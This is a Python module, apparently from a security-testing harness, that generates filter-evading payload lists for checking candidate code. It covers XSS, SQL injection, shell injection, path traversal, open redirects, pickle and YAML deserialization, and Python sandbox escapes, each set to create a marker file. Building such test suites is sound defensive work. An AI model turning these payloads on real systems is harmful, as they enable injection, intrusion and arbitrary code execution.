"""What an attacker would send: the payloads that judges share, one list of them for each weakness.

Each list goes against the half-measures that developers write: a filter of some words, of some characters, of the
first line or the first hundred characters, for one kind of quote, for what looks harmless at its beginning, cleaning
that is undone by decoding afterwards. A judge gives them to the candidate until one of them leaves its mark. Every list
begins with the plainest payloads, so that a candidate without a defence is found out at once.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import hashlib
import html
import os
import pickle
import struct
import subprocess
import timeit
import zlib
from collections.abc import Callable, Iterable
from typing import TypeVar
from urllib.parse import quote

_T = TypeVar("_T")


#: What stands before or after a payload where a candidate takes text of some shape for harmless.
_LOOKS_HARMLESS = (
    ("1", ""), ("12.50 ", " 3"), ("2024-05-17 ", ""), ("Z", "z"), ("a", "."), (" ", " "), ("\n", "\n"), ("\t", "!"),
    ("\u00e9", "\u00e9"), ("-", ""), ("+", ""), ("#", ";"), ("@", ":"), ("/", "/"), (".", ".png"), ("=", "="), ("$",
                                                                                                                ""),
    ("http://a.example/", ""), ("https://a.example/ ", " https://a.example/"), ("www.a.example ", ""), ("[", "]"),
    ("{", "}"), ("(", ")"), ("*a* ", ""), ("_", "_"), ("<b>so</b> ", " <b>so</b>"), ("<br>", "<br>"), ("<p>", "</p>"),
    ("<b>", "</b>"), ("&amp;", ""), ("&lt;b&gt; ", ""), ("R&#38;D ", ""), ("&quot;", "&quot;"), ("&nbsp;", ""),
    ("", "&amp;"), ("", "&#39;"), ("&", ";"), ("True", ""), ("null", ""), ("a\n", "\nz"),
)  # fmt: skip


def markup(call: str) -> list[str]:
    """Texts of which a page must not make running script that holds ``call``, such as ``"word()"``.

    For text between tags as for attributes in either kind of quote or in none; `runs_script` finds them.
    """
    script, image = f"<script>{call}</script>", f"<img src=x onerror={call}>"
    # Ends an attribute in either quote or none, and is a tag in text.
    both = f"'\" onfocus={call} x={image}"
    found = [script, image, f'" onfocus="{call}', f"' onfocus='{call}", f"a onfocus={call} x=", both]
    found += [f'"><body onpageshow="{call}">', f"'><i onclick='{call}'>", f"><img src=x onerror={call}>",
              f'" autofocus onfocus="{call}', f"' autofocus onfocus='{call}", f'\\" onfocus={call} x=\\"',
              f"\\' onfocus={call} x=\\'", f'http://a.example/"onfocus="{call}', f"http://a.example/'onfocus='{call}",
              f'"onfocus={call}//', f"'onfocus={call}//"]  # fmt: skip
    # Other tags, other events, other ways to set them apart, other letters.
    found += [f"<svg/onload={call}>", f"<svg onload='{call}'>", f'<svg onload="{call}">', f"<SCRIPT >{call}</SCRIPT >",
              f"<ScRiPt\n>{call}</ScRiPt\n>", f"<script x>{call}</script x>", f"<IMG SRC=x ONERROR={call}>",
              f"<img\nsrc=x\nonerror\n=\n{call}\n>", f"<svg\tonload={call}>", f"<svg\fonload={call}>",
              f"<body onload={call}>", f"<details open ontoggle={call}>", f"<input autofocus onfocus={call}>",
              f"<video><source onerror={call}></video>", f"<zz onpointerover={call}>zz</zz>",
              f"<b onclick={call}>so</b>",
              f"<i onmouseover='{call}'>so</i>", f'<p onpointerenter="{call}">so', f"<br onpointerover={call}>",
              f"<a href=javascript:{call}>so</a>", f'<a href="&#106;avascript:{call}">so</a>',
              f'<a href=" java\tscript:{call}">so</a>', f"<form action=JavaScript:{call}><button>so</button></form>",
              f"<iframe src=javascript:{call}>", f"<iframe srcdoc='{html.escape(script)}'></iframe>",
              f"<img src=x alt='>' onerror='{call}'>", f'<img alt="<b>" src=x onerror={call}>',
              f"<b title='>'><i title='>' onclick='{call}'>so</i>"]  # fmt: skip
    # Closed by the page's own ">", doubled, in pieces that a filter puts together.
    found += [f"<img src=x onerror={call} ", f"<svg/onload={call} ", f"<img src=x onerror={call}//",
              f"<svg/onload={call}//", f"<<img src=x onerror={call}>>", f"<<img src=x onerror={call}//",
              f"<<b>img src=x onerror={call}>", f"<>{image}", f"<im<b>g src=x onerror={call}>",
              f"<scr<script>ipt>{call}</scr</script>ipt>", f"<scr\0ipt>{call}</scr\0ipt>",
              f"<\0img src=x onerror={call}>",
              f"<scr<script>so</script>ipt>{call}</scr<script>so</script>ipt>", f"<img src=x oonerror=nerror={call}>",
              f"<a href=javajavascript:script:{call}>so</a>", f"<scr\u00e9ipt>{call}</scr\u00e9ipt>",
              f"<script>so</script>{script}", f"{script}{script}{image}{image}"]  # fmt: skip
    # Leaves the element, a comment, a text area or a title first.
    found += [f"</p></h2></h3></td></th></li></b></span></div></pre></footer></cite></blockquote>{tag}"
              for tag in (image, script)]  # fmt: skip
    found += [f"{ends}{image}" for ends in ("</textarea>", "</title>", "</option></select>", "-->", "</style>", "]]>")]
    found += [f"</textarea ></title ></option ></select ></style >--><svg/onload={call}>"]
    # Appears when the text is decoded once more, or twice, or brought into another form.
    for plain in (image, script, both):
        found += [quote(plain), quote(quote(plain)), quote(plain, safe="'= ").lower(), html.escape(plain),
                  html.escape(html.escape(plain)), plain.replace("<", "&lt").replace(">", "&gt"),
                  "".join(f"&#{ord(c)};" for c in plain), "".join(f"&#x{ord(c):x};" for c in plain),
                  plain.replace("<", "&#60;").replace(">", "&#62;").replace('"', "&#34;").replace("'", "&#39;"),
                  "".join(f"\\x{ord(c):02x}" if c in "<>'\"" else c for c in plain),
                  "".join(f"\\u{ord(c):04x}" if c in "<>'\"" else c for c in plain),
                  "".join(chr(ord(c) + 0xFEE0) if c in "<>'\"" else c for c in plain),
                  plain.replace("<", "\ufe64").replace(">", "\ufe65")]  # fmt: skip
    # Looks harmless at its beginning or its end, or is where few look: behind much text, behind many such characters.
    found += [f"{before}{both}{after}" for before, after in _LOOKS_HARMLESS]
    found += ["a" * length + both for length in (40, 130, 300, 1200)]
    found += [f"<q oncut={call}>", both + " so" * 400, "'\"" * 12 + both, "<b>" * 12 + both, "<>&" * 24 + both]
    return _distinct(found)


def _both_quotes(ending: str) -> list[str]:
    return [ending, ending.replace("'", '"')]


#: What a literal's quote may be written as: the first of them in a text, and those that follow.
_QUOTES = (
    ("'", "'"), ('"', '"'), ("\"'", "'"), ("'\"", '"'), ("''", "'"), ('""', '"'), ("'''", "'"), ('"""', '"'),
    ("''a'", "'"), ('""a"', '"'), ("'" * 20, "'"), ("'" * 21, "'"), ('"' * 20, '"'), ('"' * 21, '"'), ("\\'", "'"),
    ("\\'", "\\'"), ('\\"', '"'), ("\\\\'", "'"), ("\n'", "'"), ('\n"', '"'), ("\0'", "'"), ("\u00e9'", "'"),
    *((mark, mark) for mark in ("\uff07", "\uff02", "\u2019", "\u201d", "\u02bc", "\u2032", "%27", "%22", "%2527",
                                "%2522",
                                "&#39;", "&#x27;", "&#34;", "&apos;", "&quot;", "\\x27", "\\u0027", "\\x22")),
)  # fmt: skip


def sql(ending: str) -> list[str]:
    """Spellings of an ending that leaves a text literal of SQL, such as ``"' OR 1=1 --"``, its quote written as ``'``.

    In either kind of quote; with the quote doubled, behind a backslash, encoded once or twice, or as another character
    that may be turned into one; with other blanks, letters and comments. What stands before it is the judge's.
    """
    found = _both_quotes(ending)
    first, *more = ending.split("'")
    found += [first + begin + rest.join(more) for begin, rest in _QUOTES] if more else []
    for plain in _both_quotes(ending):
        doubled = plain
        for word in ("OR", "UNION", "SELECT", "WHERE", "FROM", "AND"):
            doubled = doubled.replace(f" {word} ", f" {word[:1]}{word}{word[1:]} ")
        mixed = "".join(c.lower() if i % 2 else c for i, c in enumerate(plain))
        found += [plain.replace(" ", blank) for blank in ("/**/", "\n", "\t", "\f", "  ")]
        found += [mixed, mixed.replace(" ", "/**/"), plain.lower(), doubled, doubled.replace("--", "----")]
        found += [plain.replace("--", end) for end in ("/*", ";", "-- a", "--\na", "----")]
    return _distinct(found)


def sql_values(prefix: str) -> list[str]:
    """Values that no row has and that, pasted into SQL as a condition's text or number, make the condition true.

    ``prefix`` is a value as it should be, of which there is no row either.
    """
    endings = sql("' OR 1=1 --") + sql("') OR 1=1 --") + sql("' OR '1'='1")
    for ending in ("' OR 1=1 OR '1'='", "') OR ('1'='1", "' OR ''='", "' OR 1 --", "' OR 'a'<'b", "' OR 'a' LIKE 'a",
                   "'<>'", "'<>'1", "')<>('1", "'OR'1", "'OR'1'OR'", "'||1 OR '1", "' IS NOT '1", "' OR NOT 1=2 --",
                   "'or/**/1/*", "')or/**/1/*", "' OR 1=1 OR ''='", "')) OR 1=1 --", "' || '' OR 1=1 --",
                   "' OR EXISTS(SELECT 1) --", "'<>'' --", "'<>''/*", "')<>''/*", "' IS NOT '1'/*", "' OR 1=1 OR ? --",
                   "' OR 1=1 OR ? OR ? --"):  # fmt: skip
        endings += _both_quotes(ending)
    found = [prefix + ending for ending in endings]
    for ending in ("' OR 1=1 --", '" OR 1=1 --', "' OR '1'='1", '" OR "1"="1', "') OR 1=1 --", '") OR 1=1 --'):
        # At its very beginning, behind or before another line, behind what looks harmless, behind much of it.
        found += [
            before + ending for before in ("", "7", "Z", f"{prefix}\n", f"{prefix}%", "a" * 60, "a" * 300, "-", " ")
        ]
        found += [f"{ending}\n{prefix}", f"{ending} {prefix}"]
    for quoted in ("'{0}' OR ''='", "'{0}' OR '{0}'='{0}'", "'{0}' OR ''=''", "'{0}' OR 1=1 --", "('{0}') OR 1=1 --"):
        found += _both_quotes(quoted.format(prefix))  # as if it were a literal already
    found += ["'OR 1--", '"OR 1--', "'OR'1", '"OR"1', "0 OR 1=1", "0 OR 1=1 --", "0) OR 1=1 --", "0/**/OR/**/1",
              f"{prefix} OR 1=1", f"{prefix} OR 1=1 --", "1=1", "1=1 --", "'' OR 1=1 OR ''"]  # fmt: skip
    return _distinct(found)


def cut_quotes() -> list[str]:
    """Values whose doubled quotes, cut to any even or odd length up to 1,200, leave their literal open."""
    return [start + mark * 600 for mark in "'\"" for start in ("", "a")]


def placeholders(name: str) -> list[str]:
    """Values that are filled in again by a candidate that puts one value after the other into its text."""
    found = (f":{name}", "?", f"{{{name}}}", f"%({name})s", "%s", f"${name}", f"${{{name}}}", f"@{name}", f"<{name}>")
    return [*found, f"{{{{{name}}}}}", f"%{name}%", f"[{name}]", name.upper(), "{}", "{0}", "{1}", "{2}"]


def shell(name: str, mark: str, command: str = "touch") -> list[str]:
    """Arguments with ``name`` in them that have a shell make the file or folder ``mark``, by ``command`` or without it.

    Unquoted and in either kind of quotes. Each is also a possible name of a file, as long as `name` is.
    """
    make, bare = f"{command} {mark}", f">{mark}"
    quotes = ("", "'", '"')
    found = [
        f"{name}{q}{mid}{run}{mid}{q}{name}" for mid in (";", "\n", "|", "&") for run in (make, bare) for q in quotes
    ]
    found += [f"{name}{q}{put.format(run)}{q}{name}"
              for put in ("$({})", "`{}`") for run in (make, bare) for q in quotes]  # fmt: skip
    # At the beginning or the end, with what follows in a comment, in the place of the name.
    found += [f"{name}{end}; {make} #" for end in quotes] + [f"{name}{end}\n{make}\n#" for end in quotes]
    found += [f"{name}{end}; {make} {end}" for end in quotes] + [
        f";{make};{name}",
        f"\n{make}\n{name}",
        f"{name}\n$({make})",
    ]
    found += [f"{name} && {make}", f"none || {make} || none", f"$({make})", f"`{make}`", f"'{name}';{make};'{name}'"]
    # Behind a backslash; without a blank; only what sends the output elsewhere.
    found += [f"{name}\\{q}; {make} #" for q in "'\""] + [f"{name}\\{q};{make};\\{q}{name}" for q in "'\""]
    found += [f"{name}\\;{make}\\;{name}", f"{name}\\$({make})", f"{name}\\`{make}\\`"]
    found += [f"{name}\\{mid}{command}\t{mark}{end}" for mid in (";", "|", "&", "\n") for end in ("", f"\\{mid}{name}")]
    found += [f"{name}{q};{command}{blank}{mark};{q}{name}" for blank in ("\t", "${IFS}") for q in quotes]
    found += [
        f"{name}$({command}${{IFS}}{mark})",
        f"{name}\n{command}\t{mark}\n{name}",
        f"{name};{{{command},{mark}}};{name}",
    ]
    found += [f"{name}>{mark}", f"{name}'>{mark} '", f'{name}">{mark} "']
    # Behind more of the same than a replacement with a count looks at, and behind a long name.
    found += [name + ";:" * 20 + f";{make};{name}", name + "\n" * 20 + f"{make}\n{name}",
              name + "$(:)" * 20 + f"$({make})", name + "`:`" * 20 + f"`{make}`",
              "./" * 140 + f"{name};{make};{name}", "./" * 140 + f"{name}\n{make}\n{name}"]  # fmt: skip
    found += [f"{name}{q * count};{make} #" for q in "'\"" for count in (20, 21)]
    # In the folder of a path whose last part alone is quoted; no other name is that of such a folder.
    found += [f"in{put}/{name}" for put in (f"$({make})", f"`{make}`", *(f"{q};{make};{q}to" for q in quotes))]
    return _distinct(found)


def leaving(target: str, folder: str, *, inside: str = "", known: str = "") -> list[str]:
    """Names that lead from ``folder`` to ``target``, which is not in it: two absolute paths, such as ``"/box/slides"``.

    ``inside`` is the name of a folder that is in it, ``known`` of a file. Up and down again, absolute, encoded once and
    twice, in other characters, with more of each than a filter removes; what a check of the beginning, of the first
    part or of the first hundred characters does not see.
    """
    up, here, there = "", folder.rstrip("/"), ""
    while not target.startswith(here + "/"):
        here, up = here.rpartition("/")[0], up + "../"
    there = target[len(here) + 1 :]
    plain, depth = up + there, up.count("/")
    found = [plain, target, f"./{plain}", f"{folder}/{plain}", up.replace("/", "//") + there, f".//{plain}",
             "/" + target,
             "//" + target, "../" * 12 + target[1:], f"{up}../..{target}"]  # fmt: skip
    found += [f"{part}/../{plain}" for part in (inside, known) if part]
    found += [f"{inside}/./../{plain}", f"{inside}//..//{plain}"] if inside else []
    # Only one of two is removed, or as many as a count says; pieces that become a way up when others are removed.
    found += ["....//" * depth + there, "..././" * depth + there, ".../" * depth + there, "..../" * depth + there,
              "....\\/" * depth + there, "..\\/" * depth + there, "......///" * depth + there, "../" + plain,
              "./" * 9 + plain, "./" * 70 + plain, "../" * 8 + plain, "../" * 16 + plain, f"/../{plain}",
              "....//" * 8 + "....//" * depth + there, f"/.{target}", f"{folder}/.{target}"]  # fmt: skip
    found += [f".{odd}./" * depth + there for odd in ("\0", " ", "\u00e9", ":", "\\", "*", "\n", "\t", "%00", "\u200b")]
    # Cleaned or decoded after the check.
    found += [f"{blank}{path}" for blank in (" ", "\n", "\t", "\0", '"', "'", "\u00e9") for path in (plain, target)]
    found += [f"{plain} ", f'"{plain}"', f"'{plain}'", f"{plain}\n", f"{plain}/", f"{plain}.", f"{plain}\0",
              f"file://{target}",
              f"~/{plain}", f"$PWD/{plain}", f"{{0}}/../{plain}"]  # fmt: skip
    for path in (plain, target):
        slashes = path.replace("/", "%2f")
        dots = path.replace(".", "%2e")
        every = "".join(f"%{ord(c):02x}" for c in path)
        found += [slashes, dots, dots.replace("/", "%2F"), slashes.replace("%", "%25"), every, every.replace("%",
                                                                                                             "%25"),
                  dots.replace("/", "%2f").replace("%", "%25"), slashes.replace("%", "%2525"), path.replace("/", "\\"),
                  path.replace("/", "%5c"), path.replace("/", "&#47;"), path.replace("/", "&sol;"),
                  path.replace("/", "\\x2f"), path.replace("/", "\\u002f"), path.replace("/", "\uff0f"),
                  path.replace(".", "\uff0e"), path.replace(".", "\uff0e").replace("/", "\uff0f"),
                  path.replace(".", "\u2024"), path.replace("..", "\u2025"), path.replace("/", "\\/"),
                  path.replace("/", "+"), path.replace("/", ":"), path.replace("/", "|")]  # fmt: skip
        # as a mail's header spells what is not ASCII
        found += ["=?utf-8?q?" + "".join(f"={ord(c):02X}" for c in path) + "?=",
                  "=?utf-8?b?" + base64.b64encode(path.encode()).decode() + "?="]  # fmt: skip
    return _distinct(found)


def line_ends(line: str) -> list[str]:
    """Ends of a text that has become several lines, one of which begins with ``line``.

    For a log that is read by line feeds. With other line ends around it, many of them, at the end of the text and in
    it, spelt as an escape, encoded once or twice; behind more text than is looked at.
    """
    found = [f"\n{line}", f"\r\n{line}", f"\n{line}\n", f"\n{line}\nso"]
    found += [f"{gap}{line}{gap}{line}" for gap in ("\n", "\r\n", "\n\n", "\r\r\n\n", "\n\r\n\r", "\n \n", "\\\n",
                                                    "\n\0\n",
                                                    "\r\n\r\n", "\x0b\n", "\x85\n", "\u2028\n", "\x1b[2K\n",
                                                    "\t\n")]  # fmt: skip
    found += [gap * count + line for gap in ("\n", "\r\n") for count in (3, 9, 20, 40)]
    found += [f"{gap}." * count + gap + line for gap in ("\n", "\r\n") for count in (9, 20)]
    found += [" so" * length + f"\n{line}" for length in (20, 100, 400)]
    found += [f"{gap}{line}" for gap in ("\\n", "\\r\\n", "\\\\n", "\\x0a", "\\u000a", "\\012", "%0a", "%0A", "%0D%0A",
                                         "%250a",
                                         "%250D%250A", "%25250A", "&#10;", "&#x0a;", "&#xA;", "&#13;&#10;",
                                         "&amp;#10;", "&NewLine;",
                                         "<br>", "\u240a", "=0A", "{chr(10)}")]  # fmt: skip
    return _distinct(found)


def elsewhere(name: str, page: str = "/") -> list[str]:
    """Addresses that take a browser from http://localhost to a host with ``name`` in its own; see `host_of`.

    ``page`` is a path of the site, for candidates that look for one in the address.
    """
    host = f"{name}.example"
    slashes = ("//", "///", "////", "/////", "/\\", "\\/", "\\\\", "\\\\\\", "/\\/", "\\//", "//\\", "/\\\\", "/\t/",
               "/\n/", "/\r\n/",
               "/\r/", "/\t\\", "/\t\t/", "/\t//", "\t//", "\n//", "\r//", " //", "\x01//", "\x1f//", "\0//",
               "\u00a0//", "\u3000//",
               "\ufeff//", "/..//", "/.//", "/x/..//", "/x/../..//", "//./", "/%2f", "/%2F", "%2f%2f", "%2F%2F",
               "/%5c", "%5C%5C",
               "/%09/", "%09//", "/%0a/", "/%0d%0a/", "/%252f", "%252F%252F", "/%255c", "\uff0f\uff0f", "/\uff0f",
               "&#47;&#47;", "/&#x2f;", "\\x2f\\x2f", "", "/", "\\", "@", ".", ":80@", ":@", "x@", "//@", "//:@",
               "//localhost@",
               "//localhost:80@", "//localhost%40@", "//a:b@")  # fmt: skip
    schemes = ("http://", "https://", "https:", "https:/", "https:///", "https:////", "https:\\", "https:\\\\",
               "https:/\\",
               "https:\\/", "http:///", "http:\\\\", "http:/\\", "http:", "http:/", "HTTP://", "HTTPS://", "hTTpS:",
               "HtTp:\\\\",
               "ht\ttp://", "ht\ntps://", "http\t://", "https:/\t/", "https:\t//", "https\n://", " http://",
               "\thttps://", "\nhttp://",
               "\x01https://", "\u00a0http://", "http%3A%2F%2F", "https%3a//", "http%253A%252F%252F", "http&colon;//",
               "http://localhost@",
               "http://localhost:80@", "https://localhost%2f@", "http://localhost:pw@", "http://localhost.",
               "http://localhost-",
               "http://localhost_", "http://localhost", "//localhost.", "//localhost-", "http://http://",
               "httphttp://://",
               "hhttp://ttp://", "http://https://", "https:https://", "http://localhost//", "http://a//",
               "https://a//", "//a//",
               "//localhost//", "///a//", "https:a//", "http:a//", "URL=http://", "url:http://",
               "javascript://")  # fmt: skip
    found = [f"https://{host}{page}", f"//{host}{page}", f"http://{host}", f"/\\{host}"]
    found += [start + host for start in (*slashes, *schemes)]
    found += [
        f"{start}{host}{page}" for start in ("http://", "///", "/\\", "\\\\", "https:", "@", ".", "HTTP://", "/\t/", "")
    ]
    for start in ("http://", "//", "https:"):
        found += [f"{start}{host}{end}" for end in ("/", "/localhost", "/localhost" + page, "?localhost", f"?{page}",
                                                    "#localhost",
                                                    f"#{page}", "#@localhost", "?@localhost", "/@localhost",
                                                    "\\@localhost", "\\.localhost",
                                                    "/?http://localhost/", "/?next=http://localhost" + page, ":80",
                                                    ":80" + page, ".", "./",
                                                    "\n", " ", "%00localhost", "%2flocalhost", "//")]  # fmt: skip
        found += [f"{start}{name}localhost", f"{start}{name}localhost{page}", f"{start}{name}-localhost{page}",
                  f"{start}{name}.localhost.example{page}", f"{start}localhost.{name}{page}",
                  f"{start}localhost\\@{host}"]  # fmt: skip
    found += [f"{page}/..//{host}", f"{page}/../..//{host}", f"{page}@{host}", f"{page}.{host}", f"{page} //{host}",
              f"//{host}/..{page}", f"//{host}/%2e%2e{page}"]  # fmt: skip
    return _distinct(found)


class _Call:
    """Pickles to a call of ``function`` with ``arguments``."""

    def __init__(self, function: Callable[..., object], *arguments: object) -> None:
        self.made = function, arguments

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.made


def pickles(mark: str) -> list[bytes]:
    """Pickles that make the file or folder ``mark`` when they are loaded; ``mark`` is a word of lower-case letters.

    In all protocols, by functions of the usual modules and of unusual ones, by every opcode that calls, alone and in a
    list or dict, and packed as a candidate may pack what it saves.
    """
    code = f"__import__('os').mkdir({mark!r})"
    run, plain = _Call(exec, f"import os; os.mkdir({mark!r})"), _Call(os.mkdir, mark)
    found = [pickle.dumps(plain), pickle.dumps([plain]), pickle.dumps({"so": plain})]
    found += [pickle.dumps(call, protocol, fix_imports=False)
              for call in (plain, _Call(os.system, f"mkdir {mark}"), run, _Call(eval, code))
              for protocol in range(pickle.HIGHEST_PROTOCOL + 1)]  # fmt: skip
    found += [pickle.dumps(call, protocol) for protocol in (0, 2, 4)
              for call in (_Call(timeit.timeit, code), _Call(subprocess.getoutput, f"mkdir {mark}"), [run],
                           {"so": [run]})]  # fmt: skip
    # Functions of builtins and others, without exec and eval; by INST, by OBJ, by STACK_GLOBAL with names in escapes.
    words = [f"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'mkdir'\ntR(S'{mark}'\ntR."]
    words += [f"c{module}\nopen\n(S'{mark}'\nS'w'\ntR." for module in ("builtins", "io", "_io", "codecs", "tarfile")]
    words += [f"clogging\nFileHandler\n(S'{mark}'\ntR.", f"(S'{mark}'\nios\nmkdir\n.", f"(S'{mark}'\niposix\nmkdir\n.",
              f"(S'mkdir {mark}'\nios\nsystem\n.", f"(cos\nmkdir\nS'{mark}'\no.",
              f"(lp0\n(S'{mark}'\niposix\nmkdir\na.",
              f"(dp0\nS'so'\n(S'{mark}'\nios\nmkdir\ns.", f"cos\nmkdir\n(V\\u{ord(mark[0]):04x}{mark[1:]}\ntR.",
              f"ctimeit\ntimeit\n(S\"{code}\"\ntR.",
              f"cpathlib\nPath.mkdir\n(cpathlib\nPath\n(S'{mark}'\ntRtR."]  # fmt: skip
    found += [word.encode() for word in words]
    # What a list of bad names in builtins forgets: builtins reached through one of its own functions.
    hold = "cbuiltins\ngetattr\n(cbuiltins\nprint\nS'__self__'\ntR"
    found += [f"cbuiltins\ngetattr\n({hold}S'{name}'\ntR(S\"{code}\"\ntR.".encode() for name in ("eval", "exec")]
    found += [b"\x80\x04Vbuiltins\nV" + name + b"\n\x93V" + code.encode() + b"\n\x85R."
              for name in (b"print.__self__.eval", b"print.__self__.exec", b"len.__self__.eval")]  # fmt: skip
    argument = b"\x8c" + bytes([len(mark)]) + mark.encode() + b"\x85R."
    found += [b"\x80\x04V" + module + b"\nV" + function + b"\n\x93" + argument
              for module, function in ((b"posix", b"mkdir"), (b"p\\u006fsix", b"m\\u006bdir"), (b"\\u006fs",
                                                                                                b"mkdi\\u0072"),
                                       (b"shutil", b"os.mkdir"), (b"pathlib", b"os.mkdir"), (b"glob",
                                                                                             b"os.mkdir"))]  # fmt: skip
    packed = [pack(pickle.dumps(call)) for call in (plain, [run])
              for pack in (base64.b64encode, zlib.compress, gzip.compress, bz2.compress, base64.b32encode,
                           base64.b85encode)]  # fmt: skip
    packed += [pickle.dumps(plain).hex().encode(), base64.b64encode(zlib.compress(pickle.dumps(plain))),
               b'"' + base64.b64encode(pickle.dumps(plain)) + b'"', pickle.dumps(pickle.dumps(plain))]  # fmt: skip
    return _distinct(found + packed + [sealed for call in (plain, [run]) for sealed in _sealed(pickle.dumps(call))])


def _sealed(data: bytes) -> list[bytes]:
    """``data`` with a checksum or a length that anybody can compute, before it or behind it."""
    digests = [hashlib.new(name, data) for name in ("sha256", "md5", "sha1", "sha512", "blake2b")]
    found = [sealed for digest in digests
             for sealed in (digest.digest() + data, data + digest.digest(), digest.hexdigest().encode() + data,
                            digest.hexdigest().encode() + b"\n" + data, digest.hexdigest().encode() + b":" + data,
                            data + b"\n" + digest.hexdigest().encode())]  # fmt: skip
    for number in (zlib.crc32(data), zlib.adler32(data), len(data)):
        found += [struct.pack(order, number) + data for order in (">I", "<I", ">Q", "<Q")]
        found += [b"%08x" % number + data, b"%d\n" % number + data]
    return found


_YAML_TAG = "tag:yaml.org,2002:python/"


def yaml_calls(mark: str) -> list[tuple[str, str]]:
    """Values in YAML whose tag calls Python to make the file or folder ``mark``: the directives needed, and the value.

    Directives, where there are any, end with the line that begins the document. A value can stand in a list or mapping.
    """
    source = f"__import__('os').mkdir('{mark}')"
    calls = [f"object/apply:os.mkdir [{mark}]", f"object/apply:os.system ['mkdir {mark}']",
             f"object/new:os.mkdir [{mark}]",
             f"object/apply:posix.mkdir [{mark}]", f'object/apply:eval ["{source}"]',
             f'object/apply:builtins.exec ["{source}"]',
             f"object/apply:subprocess.getoutput ['mkdir {mark}']", f"object/apply:subprocess.Popen [[mkdir, {mark}]]",
             f'object/apply:timeit.timeit ["{source}"]', f"object/apply:builtins.open [{mark}, w]",
             f"object/new:subprocess.getoutput [mkdir {mark}]", f"object/apply:io.open {{args: [{mark}, w]}}",
             f"object/apply:os.mkdir {{args: [{mark}]}}", f"object/new:os.mkdir {{args: [{mark}]}}",
             f"object/apply:logging.FileHandler [{mark}]", f"object/apply:shutil.os.mkdir [{mark}]"]  # fmt: skip
    found = [("", f"!!python/{call}") for call in calls]
    for call, _, arguments in (call.partition(" ") for call in (calls[0], calls[2], calls[5])):
        hidden = "".join(f"%{ord(c):02x}" for c in call)
        found += [("", f"!!{tag} {arguments}") for tag in (f"%70ython/{call}", f"pytho%6E/{call}", f"python%2F{call}",
                                                           f"python/{hidden}", f"p%79thon/%6f{call[1:]}")]  # fmt: skip
        found += [("", f"!<{tag}> {arguments}") for tag in (_YAML_TAG + call, "tag:yaml.org,2002:%70ython/" + call,
                                                            "%74ag:yaml.org,2002:python/" + hidden)]  # fmt: skip
        found += [(f"%TAG {handle} {start}\n--- ", f"{handle}{end}{call} {arguments}")
                  for handle in ("!e!", "!", "!!")
                  for start, end in ((_YAML_TAG, ""), (_YAML_TAG[:-7], "python/"), ("tag:yaml.org,2002:p",
                                                                                    "ython/"))]  # fmt: skip
        found += [("%YAML 1.1\n--- ", f"!!python/{call} {arguments}"), ("", f"&a !!python/{call} {arguments}"),
                  ("", f"!!python/{call}  {arguments}"), ("", f"[so, [!!python/{call} {arguments}]]"),
                  ("", f"{{so: {{a: !!python/{call} {arguments}}}}}"), ("", f"{{? !!python/{call} {arguments} : 1}}"),
                  ("", f"{{<<: !!python/{call} {arguments}}}"), ("", f"!!set {{? !!python/{call} {arguments}}}"),
                  ("", f"!!pyt!!pythonhon/{call} {arguments}"), ("", f"!!python/!!python/{call} {arguments}"),
                  ("", f"!python/{call} {arguments}")]  # fmt: skip
    # beside a tag that does no harm
    found += [("", f"[!!python/tuple [1], !!python/{call}]") for call in calls[:3]]
    return _distinct(found)


def expressions(mark: str) -> list[str]:
    """Python expressions that make the file or folder ``mark``, a word of letters, when they are evaluated.

    Short ones, some without blanks, quotes, brackets, builtins or double underscores; some with the words that a filter
    looks for in pieces or in other characters.
    """
    pieces = "['_'+'_builtins_'+'_']['op'+'en']"
    spelt = "+".join(f"chr({ord(c)})" for c in mark)
    octal = "".join(f"\\{ord(c):03o}" for c in mark)
    code = "".join(f"\\x{ord(c):02x}" for c in f"import os; os.mkdir('{mark}')")
    called = "+".join(f"chr({ord(c)})" for c in f"open('{mark}','x')")  # letters, digits, brackets and +
    return [
        f"__import__('os').mkdir('{mark}')", f"open('{mark}','w')", f'open("{mark}","w")',
        f"[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close'][0]"
        f".__init__.__globals__['mkdir']('{mark}')",
        f"().__reduce_ex__(2)[0].__globals__['__builtins__']['__import__']('os').mkdir('{mark}')",
        f"[a:=[],a.append(b.gi_frame.f_back.f_back.f_builtins for b in a),[*a[0]][0]['open']('{mark}','x')]",
        f"[help['import os; os.mkdir(\\'{mark}\\')'] for help.__class__.__getitem__ in [exec]]",
        f"[help['import os; os.mkdir\\x28\\'{mark}\\'\\x29'] for help.__class__.__getitem__ in [exec]]",
        f"[help['import os; os.mkdir\\x28\\'{mark}\\'\\x29']"
        " for help._\uff3fclass_\uff3f._\uff3fgetitem_\uff3f in [exec]]",
        f"\uff4f\uff50\uff45\uff4e('{octal}','\\167')",
        f"__import__('os').system('mkdir {mark}')", f"__import__('pathlib').Path('{mark}').touch()",
        f"__import__('subprocess').getoutput('mkdir {mark}')", f"exec('{code}')",
        f"eval('_'+'_import_'+'_'+'(\"os\").mkdir(\"{mark}\")')", f"\uff4f\uff50\uff45\uff4e('{mark}','w')",
        f"_\uff3fimport_\uff3f('os').mkdir('{mark}')", f"getattr(__import__('o'+'s'),'mk'+'dir')('{mark}')",
        f"globals(){pieces}('{mark}','x')", f"vars(){pieces}('{mark}','x')", f"open({spelt},chr(120))",
        f"exec({called})", f"eval({called})",
        f"[*map(open,['{mark}'],['x'])]", f"(lambda:open('{mark}','x'))()", f"f\"{{open('{mark}','x')}}\"",
        f"exec(\"open('{mark}','x')\")", f"print(file=open('{mark}','x'))", f"[open('{mark}','x')for(_)in[0]]",
        f"__builtins__['open']('{mark}','x')", f"__builtins__.open('{mark}','x')",
        f"sorted(['{mark}'],key=__import__('os').mkdir)",
        f"type('a',(),{{'a':open('{mark}','x')}})", f"open\t('{mark}','x')", f"open\\\n('{mark}','x')",
    ]  # fmt: skip


def _distinct(found: Iterable[_T]) -> list[_T]:
    """Without repetitions, in the order in which they came."""
    return list(dict.fromkeys(found))
